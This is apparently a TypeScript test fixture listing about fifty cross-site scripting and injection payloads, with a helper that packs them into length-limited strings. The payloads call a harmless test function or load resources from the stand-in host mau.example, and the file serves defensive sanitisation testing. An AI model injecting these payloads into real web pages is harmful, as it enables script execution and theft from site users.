/** If a page runs such a text as code, the text calls `invadido()`, which the test defines, or loads something from mau.example. */
export const ATAQUES: readonly string[] = [
  '<script>invadido()</script>',
  '"><script>invadido()</script>',
  "'><script>invadido()</script>",
  '</script><script>invadido()</script>',
  '</style><script>invadido()</script>',
  '</title><script>invadido()</script>',
  '</textarea><script>invadido()</script>',
  '<!--><script>invadido()</script>-->',
  '<![CDATA[<script>invadido()</script>]]>',
  '<scr<script>ipt>invadido()</scr</script>ipt>',
  '<SCRIPT SRC=//mau.example/a.js></SCRIPT>',
  '<img src=x onerror=invadido()>',
  '<IMG """><SCRIPT>invadido()</SCRIPT>">',
  '"><img src=x onerror=invadido()>',
  '" onmouseover=invadido() autofocus onfocus=invadido() x="',
  "' onerror='invadido()' src='x",
  '<svg onload=invadido()>',
  '<svg><animate onbegin=invadido() attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=invadido()></style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=invadido()>',
  '<body onload=invadido()>',
  '<input autofocus onfocus=invadido()>',
  '<details open ontoggle=invadido()>x</details>',
  '<video autoplay><source src=x onerror=invadido()></video>',
  '<audio src=x onerror=invadido()></audio>',
  '<marquee onstart=invadido()>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=invadido()>">',
  '<template><script>invadido()</script></template>',
  '<iframe src=javascript:invadido()></iframe>',
  '<iframe srcdoc="<script>parent.invadido()</script>">',
  '<object data=javascript:invadido()></object>',
  '<embed src=javascript:invadido()>',
  '<form action=javascript:invadido()><button>Clique</button>',
  '<button formaction=javascript:invadido()>Clique</button>',
  '<a href="javascript:invadido()">Clique</a>',
  '<a href="&#106;avascript:invadido()">Clique</a>',
  'javascript:invadido()',
  'JaVaScRiPt:invadido()//',
  'data:text/html,<script>invadido()</script>',
  '<link rel=stylesheet href=//mau.example/a.css>',
  '<base href=//mau.example/>',
  '<style>@import "//mau.example/a.css"</style>',
  '<p style="background:url(//mau.example/a)">x</p>',
  'red;}body{background:url(//mau.example/a)}',
  '<meta http-equiv=refresh content="0;url=//mau.example">',
  "{{constructor.constructor('invadido()')()}}",
  '${invadido()}<%= invadido() %>',
  String.raw`\u003cscript\u003einvadido()\u003c/script\u003e`,
  '&lt;script&gt;invadido()&lt;/script&gt;%3Cscript%3E',
  '=HYPERLINK("//mau.example","invadido()")',
]

export function ataquesEmTextos(maximo: number): string[] {
  const textos: string[] = []
  for (const ataque of ATAQUES) {
    const ultimo = textos.at(-1)
    if (ultimo !== undefined && ultimo.length + 1 + ataque.length <= maximo) textos[textos.length - 1] = `${ultimo} ${ataque}`
    else textos.push(ataque)
  }
  return textos
}
